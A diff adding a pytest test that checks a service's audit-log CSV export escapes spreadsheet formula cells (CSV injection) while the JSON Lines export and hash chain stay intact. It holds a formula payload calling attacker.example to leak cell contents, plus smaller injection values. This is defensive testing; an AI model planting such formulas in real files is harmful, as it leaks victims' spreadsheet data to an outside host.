@@ -589,3 +589,31 @@ def test_the_migration_downgrades_and_upgrades(settings: Settings, tenant: Tenan
     assert [(row.seq, row.prev_hash) for row in rows] == [(1, "0" * 64)]
     with pytest.raises(Exception, match="append-only"), transaction(factory) as session:
         session.execute(text("DELETE FROM audit_entries"))
+
+
+def test_the_csv_export_escapes_cells_a_spreadsheet_would_run(
+    client: TestClient, tenant: Tenant
+) -> None:
+    """Key names are the tenant's words and request ids the client's: a cell starting with
+    = + - @ is prefixed with ' (OWASP CSV injection), as in the synthetic table's CSV."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    created = client.post(
+        "/v1/keys", json={"name": formula, "role": "admin"}, headers=bearer(tenant.admin)
+    )
+    assert created.status_code == 201, created.text
+    acted = client.post(
+        "/v1/keys",
+        json={"name": "@SUM(1+1)", "role": "analyst"},
+        headers=bearer(created.json()["key"], request_id="-2-3"),
+    )
+    assert acted.status_code == 201, acted.text
+    response = client.get("/v1/audit", params={"format": "csv"}, headers=bearer(tenant.admin))
+    assert response.status_code == 200
+    last = list(csv.DictReader(io.StringIO(response.text)))[-1]
+    assert last["actor_name"] == "'" + formula
+    assert last["request_id"] == "'-2-3"
+    assert json.loads(last["details"])["name"] == "@SUM(1+1)"  # inside JSON: starts with {
+    # The JSON Lines export, which the chain is verified on, keeps the values as they are.
+    entries = _export(client, tenant.admin)
+    assert entries[-1]["actor_name"] == formula and entries[-1]["request_id"] == "-2-3"
+    verify_audit_chain(entries)
